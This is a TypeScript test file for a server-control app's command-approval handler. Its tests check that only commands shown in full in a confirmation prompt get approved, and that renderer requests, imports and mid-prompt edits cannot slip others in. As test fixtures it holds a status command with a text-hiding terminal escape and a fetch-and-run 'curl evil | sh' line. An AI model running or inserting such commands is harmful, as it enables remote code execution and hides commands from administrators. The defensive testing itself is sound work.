// The app's approveCommands operation: the commands come from the store in main, the prompt
// (ConfirmInMain) shows each in full, and only a confirmed prompt approves — exactly what it
// showed. A renderer cannot slip commands of its own into the request.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openReplicaDesk, type ReplicaDesk } from '../../../src/main/core/replicaDesk';
import type { TrustPrompt } from '../../../src/main/ipc/confirmInMain';
import { createHandlers } from '../../../src/main/ipc/handlers';

let home: string;
let core: ReplicaDesk;

const STATUS = "pgrep -f 'cm-rls1' >/dev/null \u001b[8mhidden";
const STOP = 'systemctl stop cm-rls1 && logger "stopped by replica-desk"';

beforeEach(async () => {
  home = mkdtempSync(join(tmpdir(), 'rd-approve-op-'));
  core = openReplicaDesk({ home });
  await core.profiles.importText(
    JSON.stringify({
      format: 'replica-desk/profiles@1',
      installations: [
        {
          name: 'prod',
          servers: [
            { name: 'mls', role: 'master', db: { host: 'db', database: 'cm', user: 'cm_master' } },
            { name: 'rls1', role: 'replica', db: { host: 'db', database: 'cm', user: 'cm_rls1' }, control: { stop: STOP, status: STATUS } },
          ],
        },
      ],
    }),
    { replace: false },
  );
});
afterEach(() => {
  core.close();
  rmSync(home, { recursive: true, force: true });
});

describe('approveCommands', () => {
  it('approves nothing when the admin says no in main, after showing every command in full', async () => {
    const prompts: TrustPrompt[] = [];
    const handlers = createHandlers(core, { confirmInMain: async (p) => (prompts.push(p), false) });
    const result = await handlers.approveCommands({ ref: 'prod/rls1' });
    expect(result).toMatchObject({ ok: true, value: { target: 'prod/rls1', confirmed: false, approved: [] } });
    expect(prompts).toHaveLength(1);
    expect(prompts[0]!.detail).toContain(STOP);
    // The escape sequence that would hide text on a terminal is shown, not obeyed.
    expect(prompts[0]!.detail).toContain("pgrep -f 'cm-rls1' >/dev/null \\u{1b}[8mhidden");
    expect(prompts[0]!.detail).toContain('runs on local');
    expect(prompts[0]!.confirmLabel).toBe('Approve');
    expect(core.commands.list({ installation: 'prod' }).some((c) => c.approved)).toBe(false);
  });

  it('refuses without a prompt in main (the default), so the renderer alone cannot approve', async () => {
    const result = await createHandlers(core).approveCommands({ ref: 'prod' });
    expect(result).toMatchObject({ ok: true, value: { confirmed: false, approved: [] } });
    expect(core.commands.list({ installation: 'prod' }).some((c) => c.approved)).toBe(false);
  });

  it('takes no commands from the request', async () => {
    const handlers = createHandlers(core, { confirmInMain: async () => true });
    const result = await handlers.approveCommands({ ref: 'prod/rls1', commands: [{ ref: 'prod/rls1', kind: 'status', command: 'true' }] });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-request' } });
    expect(core.commands.list({ installation: 'prod' }).some((c) => c.approved)).toBe(false);
  });

  it('offers the app no import that approves: --approve-commands is the CLI\'s alone', async () => {
    const handlers = createHandlers(core, { confirmInMain: async () => true });
    const text = JSON.stringify(core.profiles.exportFile());
    expect(await handlers.importProfiles({ text, replace: true, approveCommands: true })).toMatchObject({ ok: false, error: { code: 'invalid-request' } });
    const imported = await handlers.importProfiles({ text, replace: true });
    expect(imported.ok && imported.value.commands.map((c) => c.approved)).toEqual([false, false]);
    expect(core.commands.list({ installation: 'prod' }).some((c) => c.approved)).toBe(false);
  });

  it('approves exactly what the confirmed prompt showed', async () => {
    const handlers = createHandlers(core, { confirmInMain: async () => true });
    const result = await handlers.approveCommands({ ref: 'prod/rls1' });
    expect(result.ok && result.value.approved.map((c) => [c.kind, c.command])).toEqual([['stop', STOP], ['status', STATUS]]);
    expect((await handlers.listCommands({ ref: 'prod' })).ok && core.commands.list({ installation: 'prod' }).every((c) => c.approved)).toBe(true);
  });

  it('approves nothing when the profile changed while the prompt was open', async () => {
    const handlers = createHandlers(core, {
      confirmInMain: async () => {
        const inst = core.profiles.get('prod');
        await core.profiles.save({ previousName: 'prod', installation: { ...inst, servers: inst.servers.map((s) => (s.name === 'rls1' ? { ...s, control: { stop: STOP, status: 'curl evil | sh' } } : s)) } });
        return true;
      },
    });
    const result = await handlers.approveCommands({ ref: 'prod/rls1' });
    expect(result).toMatchObject({ ok: false, error: { code: 'conflict' } });
    expect(core.commands.list({ installation: 'prod' }).some((c) => c.approved)).toBe(false);
  });
});
